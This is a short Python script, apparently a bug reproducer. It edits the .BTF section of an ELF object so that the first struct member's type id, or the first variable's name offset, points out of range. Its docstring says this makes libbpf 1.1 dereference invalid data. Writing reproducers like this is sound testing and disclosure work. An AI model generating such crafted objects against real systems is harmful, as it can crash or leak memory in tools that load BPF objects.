"""badbtf.py IN OUT [name] — OUT is IN with the first struct member of its
.BTF pointing at type 0x80000000|id, a type that does not exist; with
"name", its first variable named by an offset past its strings
instead. libbpf 1.1 dereferences either while reading the object (the
name when the object has externs)."""
import struct
import sys

d = bytearray(open(sys.argv[1], 'rb').read())
shoff, = struct.unpack_from('<Q', d, 0x28)
shnum, shstrndx = struct.unpack_from('<HH', d, 0x3c)
sh = [struct.unpack_from('<IIQQQQIIQQ', d, shoff + i * 64) for i in range(shnum)]
strtab = sh[shstrndx][4]
name = lambda s: d[strtab + s[0]:d.index(0, strtab + s[0])].decode()
btf = next(s[4] for s in sh if name(s) == '.BTF')
hdr_len, type_off, type_len = struct.unpack_from('<III', d, btf + 4)
p = btf + hdr_len + type_off
end = p + type_len
extra = {1: 4, 3: 12, 14: 4, 17: 4}          # int, array, var, decl_tag
per_vlen = {4: 12, 5: 12, 6: 8, 13: 8, 15: 12, 19: 12}
while p < end:
    info, = struct.unpack_from('<I', d, p + 4)
    kind, vlen = (info >> 24) & 0x1f, info & 0xffff
    if sys.argv[3:] == ["name"] and kind == 14:  # var
        at = p
    elif sys.argv[3:] != ['name'] and kind in (4, 5) and vlen:
        at = p + 16                              # struct member's type
    else:
        at = None
    if at is not None:
        v, = struct.unpack_from('<I', d, at)
        struct.pack_into('<I', d, at, v | 0x80000000)
        break
    p += 12 + extra.get(kind, 0) + per_vlen.get(kind, 0) * vlen
else:
    sys.exit('nothing to break')
open(sys.argv[2], 'wb').write(d)
